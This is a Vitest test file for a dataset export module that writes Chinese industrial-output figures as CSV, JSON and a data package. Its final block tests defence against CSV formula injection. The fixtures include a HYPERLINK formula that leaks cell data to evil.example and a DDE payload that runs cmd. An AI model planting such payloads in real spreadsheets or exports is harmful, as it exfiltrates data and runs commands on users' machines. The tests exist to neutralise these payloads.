import { describe, expect, it } from 'vitest';
import { BOM, csvCell, csvFields, dataPackage, datasetCsv, datasetJson } from '../../src/data/dataset-export';
import { datasets } from '../support/datasets';

const perMu = datasets.find((dataset) => dataset.id === 'nexteer-output-per-mu')!;

describe('datasetCsv', () => {
  it('starts with a byte-order mark and a header row, one row per value and calculated figure', () => {
    const csv = datasetCsv(perMu);
    expect(csv.startsWith(BOM)).toBe(true);
    const lines = csv.slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toBe(csvFields.map((field) => field.name).join(','));
    expect(lines).toHaveLength(1 + perMu.values.length + perMu.derived.length);
  });

  it('keeps a range in its low and high columns, and marks calculated rows', () => {
    const csv = datasetCsv(perMu);
    expect(csv).toContain('industry,行业亩均产值,stated,,500,600,万元,,500万至600万元,行业亩均产值500万至600万元,');
    expect(csv).toMatch(/multiple,耐世特是行业的倍数,calculated,,14\.6,17\.5,倍/);
  });

  it('quotes cells that hold commas or quotation marks', () => {
    const edited = { ...perMu, values: perMu.values.map((value) => ({ ...value, label: 'a, "b"' })) };
    expect(datasetCsv(edited)).toContain(',"a, ""b""",stated,');
  });
});

describe('datasetJson', () => {
  it('is the dataset with its calculated figures and how they were calculated', () => {
    const json = JSON.parse(datasetJson(perMu));
    expect(json.id).toBe('nexteer-output-per-mu');
    expect(json.derived[0]).toMatchObject({ value: [14.6, 17.5], calculatedFrom: '8752万元 ÷ 500万至600万元' });
  });
});

describe('dataPackage', () => {
  it('lists one tabular resource per dataset with a schema whose fields match the CSV header', () => {
    const pkg = dataPackage(datasets, { name: 'n', title: 't' });
    expect(pkg.resources.map((resource) => resource.path)).toEqual(datasets.map((d) => `${d.id}.csv`));
    for (const resource of pkg.resources) {
      expect(resource.name).toMatch(/^[a-z0-9._-]+$/);
      expect(resource.schema.fields.map((field) => field.name)).toEqual(csvFields.map((field) => field.name));
    }
  });
});

describe('CSV formula injection (OWASP)', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '\t=1',
    '\r=1',
    '＝1+1',
  ];

  it('prefixes every text cell that a spreadsheet would run as a formula with a quote', () => {
    for (const text of hostile) {
      const edited = {
        ...perMu,
        values: perMu.values.map((value) => ({ ...value, label: text, unit: text, quote: text })),
      };
      const csv = datasetCsv(edited);
      const rows = csv.slice(1).trimEnd().split('\r\n').slice(1);
      for (const row of rows.slice(0, perMu.values.length)) {
        // Every cell that starts the row or follows a comma: none may start a formula.
        const cells = row.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)!.map((c) => c.replace(/^,/, ''));
        for (const raw of cells) {
          const value = raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw;
          expect(value, `cell ${JSON.stringify(raw)} of ${JSON.stringify(row)}`).not.toMatch(/^[=+\-@\t\r＝]/);
        }
        expect(row).toContain(`'${text.replace(/"/g, '""')}`);
      }
    }
  });

  it('keeps negative numbers in number columns as numbers, and the JSON exact', () => {
    expect(csvCell('-3.5', 'number')).toBe('-3.5');
    expect(csvCell('-3.5')).toBe("'-3.5");
    expect(csvCell('-cmd', 'number')).toBe("'-cmd");
    const edited = { ...perMu, values: perMu.values.map((value) => ({ ...value, label: '=cmd' })) };
    expect(JSON.parse(datasetJson(edited)).values[0].label).toBe('=cmd');
  });
});
